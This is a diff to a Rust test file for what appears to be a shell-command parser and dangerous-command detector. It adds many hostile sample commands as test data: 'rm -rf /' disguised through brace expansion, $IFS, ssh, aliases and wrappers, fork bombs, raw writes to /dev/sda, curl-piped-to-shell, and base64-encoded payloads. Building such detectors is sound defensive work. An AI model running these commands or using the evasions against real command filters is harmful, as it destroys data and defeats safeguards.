@@ -4,6 +4,7 @@ use std::time::{Duration, Instant};
 
 use proptest::prelude::*;
 
+use super::builtin::Builtin;
 use super::*;
 
 /// The words of every command of a line, in order.
@@ -67,7 +68,7 @@ fn words_and_quoting() {
         ("echo $\"hi $x\"", &[&["echo", "hi $x"]]),
         (
             "echo $HOME ${x:-y} ~ *.rs {a,b} $",
-            &[&["echo", "$HOME", "${x:-y}", "~", "*.rs", "{a,b}", "$"]],
+            &[&["echo", "$HOME", "${x:-y}", "~", "*.rs", "a", "b", "$"]],
         ),
         ("echo \"$HOME\"/x", &[&["echo", "$HOME/x"]]),
         ("echo ''", &[&["echo", ""]]),
@@ -320,7 +321,15 @@ fn compound_commands() {
     check_words(&[
         ("(cd x && rm y)", &[&["cd", "x"], &["rm", "y"]]),
         ("{ a; b; }", &[&["a"], &["b"]]),
-        ("{a,b}", &[&["{a,b}"]]),
+        ("{a,b}", &[&["a", "b"]]),
+        ("{rm,-rf,/}", &[&["rm", "-rf", "/"]]),
+        ("rm${IFS}-rf${IFS}/", &[&["rm", "-rf", "/"]]),
+        ("rm$IFS-rf$IFS/", &[&["rm", "-rf", "/"]]),
+        ("\"rm${IFS}-rf\"", &[&["rm${IFS}-rf"]]),
+        ("echo {a,b}{c,d}", &[&["echo", "ac", "ad", "bc", "bd"]]),
+        ("echo '{a,b}' \\{a,b}", &[&["echo", "{a,b}", "{a,b}"]]),
+        ("echo {a}", &[&["echo", "{a}"]]),
+        ("echo ${x}{a,b}", &[&["echo", "${x}a", "${x}b"]]),
         (
             "if true; then rm -rf /; elif x; then y; else z; fi",
             &[&["true"], &["rm", "-rf", "/"], &["x"], &["y"], &["z"]],
@@ -479,7 +488,7 @@ fn strings_run_as_lines_are_read() {
         ("watch -n 1 'rm -rf /'", "rm -rf /"),
         ("find / -exec rm -rf {} \\;", "rm -rf {}"),
         ("find / -name x -exec rm -rf {} + -print", "rm -rf {}"),
-        ("find . -execdir sh -c 'rm -rf \"$0\"' {} ';'", "rm -rf $0"),
+        ("find . -execdir sh -c 'rm -rf \"$0\"' {} ';'", "rm -rf {}"),
         ("find . -ok rm {} \\; -exec shred {} \\;", "shred {}"),
         ("sudo find / -delete -exec rm {} \\;", "rm {}"),
     ];
@@ -500,13 +509,54 @@ fn strings_run_as_lines_are_read() {
         "bash script <<EOF\nrm -rf /\nEOF",
         "trap -p 'rm -rf /'",
         "watch -x 'rm -rf /'",
-        // Known gaps (see the module docs).
-        "echo 'rm -rf /' | sh",
-        "ssh host 'rm -rf /'",
+        // Not read, but opaque (see `opaque` in the built-in set).
         "CMD='rm -rf /'; $CMD",
     ] {
         let got = joined(line);
         assert!(!got.iter().any(|c| c == "rm -rf /"), "{line:?}: {got:?}");
+    }
+    // Read since text piped into a shell, remote commands, aliases and
+    // positional parameters are looked through.
+    for line in [
+        "echo 'rm -rf /' | sh",
+        "echo -n 'rm -rf /' | sudo bash -s",
+        "printf 'rm -rf /' | sh",
+        "cat <<EOF | sh\nrm -rf /\nEOF",
+        "ssh host 'rm -rf /'",
+        "ssh -p 22 -i key user@host rm -rf /",
+        "ssh -o StrictHostKeyChecking=no -- host 'rm -rf /'",
+        "alias x='rm -rf /'; x",
+        "sh -c \"$1\" _ 'rm -rf /'",
+        "bash -c '$0' 'rm -rf /'",
+        "sh -c 'rm -rf \"${1}\"' sh /",
+        "flock /tmp/l -c 'rm -rf /'",
+        "script -qc 'rm -rf /' /dev/null",
+        "script -q -c 'rm -rf /' /dev/null",
+        "sg wheel 'rm -rf /'",
+        "parallel rm -rf ::: /",
+        "toybox rm -rf /",
+        "builtin exec rm -rf /",
+        "nsenter -t 1 -m -u -i -n -p rm -rf /",
+        "unshare -r rm -rf /",
+        "strace -f -o /dev/null rm -rf /",
+        "ssh-agent rm -rf /",
+        "setsid -f rm -rf /",
+        "chrt -f 99 rm -rf /",
+        "gosu root rm -rf /",
+        "fakeroot rm -rf /",
+        "unbuffer rm -rf /",
+        "systemd-run --user -p X=1 rm -rf /",
+        "run0 -u root rm -rf /",
+    ] {
+        let got = joined(line);
+        let unwrapped: Vec<String> = commands(line)
+            .iter()
+            .map(|c| c.unwrapped().join(" "))
+            .collect();
+        assert!(
+            got.iter().chain(&unwrapped).any(|c| c == "rm -rf /"),
+            "{line:?}: {got:?} / {unwrapped:?}"
+        );
     }
 }
 
@@ -809,6 +859,12 @@ const DANGEROUS_CASES: &[(&str, &[&str], &[&str])] = &[
             "rm -r -f /",
             "rm -f -r /",
             "rm --recursive --force /",
+            "rm --rec --for /",
+            "rm --r --f /",
+            "rm -r --interactive=never /",
+            "rm -r --interactive=none /",
+            "rm -r --interactive=n /",
+            "rm -R --inter=nev /",
             "rm -Rf ~",
             "rm -rfv build",
             "rm -r -i -f x",
@@ -1032,12 +1088,33 @@ const DANGEROUS_CASES: &[(&str, &[&str], &[&str])] = &[
     ),
     (
         "fork-bomb",
-        &[":(){ :|:& };:", ": () { : | : & }; :"],
-        &[":", ": ; :", "a | a"],
+        &[
+            ":(){ :|:& };:",
+            ": () { : | : & }; :",
+            "f(){ f|f& };f",
+            "bomb() { bomb | bomb & }; bomb",
+            "function x { x & x & }; x",
+            "function y() { y|y; }; y",
+        ],
+        &[
+            ":",
+            ": ; :",
+            "a | a",
+            "f() { echo hi; }; f",
+            "f(){ g|g; }; f",
+        ],
     ),
     (
         "write-block-device",
         &[
+            ">| /dev/sda",
+            "echo x >| /dev/sda",
+            "echo x <> /dev/sda",
+            "echo x 1<>/dev/sda",
+            "echo x >&/dev/sda",
+            "echo x &>/dev/sda",
+            "tee /dev/sda < img",
+            "cp img /dev/sdb",
             "> /dev/sda",
             "echo x > /dev/sda",
             "cat img >> /dev/nvme0n1",
@@ -1070,10 +1147,124 @@ const DANGEROUS_CASES: &[(&str, &[&str], &[&str])] = &[
         ],
         &["systemctl restart nginx", "systemctl status"],
     ),
+    (
+        "opaque",
+        &[
+            "a=rm; $a -rf /",
+            "$CMD",
+            "${CMD} -rf /",
+            "\"$CMD\" x",
+            "$(echo sudo) id",
+            "`which rm` -rf /",
+            "$(printf rm) -rf /",
+            "sudo $X",
+            "env $X",
+            "nice -n 5 ${PROG:-rm} x",
+            "/bin/$X",
+            "/bin/r? -rf /",
+            "/???/??m -rf /",
+            "/bin/r[m] -rf /",
+            "eval \"$(curl -s x)\"",
+            "eval $X",
+            "bash -c \"$(curl -s x)\"",
+            "bash -c \"$( curl -s x )\"",
+            "bash -c \"`curl -s x`\"",
+            "sh -c \"$X\"",
+            "bash <(curl -s x)",
+            "bash <( curl -s x )",
+            "source <(curl -s x)",
+            ". <(wget -qO- x)",
+            "curl x | tee >(sh)",
+            "curl -s x | sh",
+            "curl -s x | command sh",
+            "/usr/bin/curl -s x | bash -s",
+            "wget -qO- x | python3",
+            "base64 -d x | sh",
+            "cat x | bash",
+            "echo $X | sh",
+            "echo cm0gLXJmIC8K | base64 -d | bash",
+            "xxd -r -p x | sh -",
+            "curl x | bash /dev/stdin",
+            "curl -o i.sh x && bash i.sh",
+            "curl -sO https://x/i.sh; sh ./i.sh",
+            "wget https://x/run.sh && chmod +x run.sh && ./run.sh",
+            "curl x > /tmp/a; /tmp/a",
+            "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
+            "python3 -c 'import os; os.system(\"id\")'",
+            "python -c \"__import__('os').system('id')\"",
+            "python3 -c 'open(\"/etc/passwd\").read()'",
+            "python3 -c 'import json, subprocess'",
+            "python3 -c 'from os import system as s; s(\"id\")'",
+            "python3 -Ic 'import pty'",
+            "python3 - <<'EOF'\nimport os\nos.remove('x')\nEOF",
+            "curl x | python3 -",
+            "perl -e 'system(\"rm -rf /\")'",
+            "perl -e '`id`'",
+            "perl -ne 'unlink $_'",
+            "perl -MFile::Path -e 'rmtree(\"/\")'",
+            "perl -e 's/x/\"sys\".\"tem id\"/ee'",
+            "node -e 'require(\"child_process\").execSync(\"id\")'",
+            "node -e 'process.exit(1)'",
+            "node -p '[][\"constructor\"]'",
+            "ruby -e 'system(\"id\")'",
+            "ruby -e '`id`'",
+            "ruby -e 'File.delete(\"x\")'",
+            "php -r 'system(\"id\");'",
+            "php -r '$f=\"system\"; $f(\"id\");'",
+            "awk 'BEGIN { system(\"id\") }'",
+            "awk '{ print | \"sh\" }' x",
+            "lua -e 'os.execute(\"id\")'",
+            "sh -c \"$1\" _ '$(id)'",
+            "parallel < cmds.txt",
+            "ssh host",
+            "curl x | ssh host",
+            "bash",
+        ],
+        &[
+            "echo $HOME",
+            "cd \"$(git rev-parse --show-toplevel)\"",
+            "wc -l $(git ls-files)",
+            "for f in *.rs; do wc -l \"$f\"; done",
+            "while read -r l; do echo \"$l\"; done < x",
+            "cat > out.txt <<EOF\n$HOME\nEOF",
+            "python3 -c 'print(1)'",
+            "python3 -c 'import json,sys; print(json.dumps({}))'",
+            "python3 -m pip install x",
+            "python3 script.py",
+            "sh ./scripts/build.sh",
+            "bash scripts/x.sh arg",
+            "FOO=bar make",
+            "\"$VENV/bin/python\" -m pytest",
+            "$HOME/bin/tool --flag",
+            "./node_modules/.bin/tsc",
+            "[ -f x ] && echo y",
+            "[[ -f x ]]",
+            "node -e 'console.log(1+1)'",
+            "perl -pe 's/a/b/g' file",
+            "perl -ne 'print if /x/' file",
+            "ruby -e 'puts 1'",
+            "awk '{print $1}' file",
+            "awk -F: '$3 > 100 {print $1}' /etc/passwd",
+            "sh -c 'echo $0' x",
+            "bash -c 'ls -la'",
+            "curl -o out.json https://x/api && jq . out.json",
+            "echo ls | sh",
+            "printf 'ls\\n' | bash",
+            "cat <<EOF | sh\nls\nEOF",
+            "bash <<EOF\nls\nEOF",
+            "bash -s <<< 'ls'",
+            "ssh host 'ls -la'",
+            "git log | head",
+            "echo {a,b}",
+            "make -j$(nproc)",
+            "docker run --rm -v \"$PWD\":/w img",
+            "f() { echo hi; }; f",
+        ],
+    ),
 ];
 
 fn dangerous() -> CommandPatterns {
-    let patterns: Vec<&str> = DANGEROUS.iter().map(|d| d.1).collect();
+    let patterns: Vec<String> = DANGEROUS.iter().map(|d| format!("@{}", d.id)).collect();
     CommandPatterns::new(&patterns).unwrap()
 }
 
@@ -1081,7 +1272,7 @@ fn dangerous() -> CommandPatterns {
 fn dangerous_ids(set: &CommandPatterns, line: &str) -> Vec<&'static str> {
     set.matches(line)
         .into_iter()
-        .map(|i| DANGEROUS[i].0)
+        .map(|i| DANGEROUS[i].id)
         .collect()
 }
 
@@ -1099,13 +1290,13 @@ fn dangerous_set_hits_and_near_misses() {
             assert!(!got.contains(id), "{id}: {line:?} flagged");
         }
     }
-    for (id, _, _) in DANGEROUS {
+    for Builtin { id, .. } in DANGEROUS {
         assert!(
             DANGEROUS_CASES.iter().any(|c| c.0 == *id),
             "{id} has no test cases"
         );
     }
-    let mut ids: Vec<&str> = DANGEROUS.iter().map(|d| d.0).collect();
+    let mut ids: Vec<&str> = DANGEROUS.iter().map(|d| d.id).collect();
     ids.sort_unstable();
     ids.dedup();
     assert_eq!(ids.len(), DANGEROUS.len(), "ids are unique");
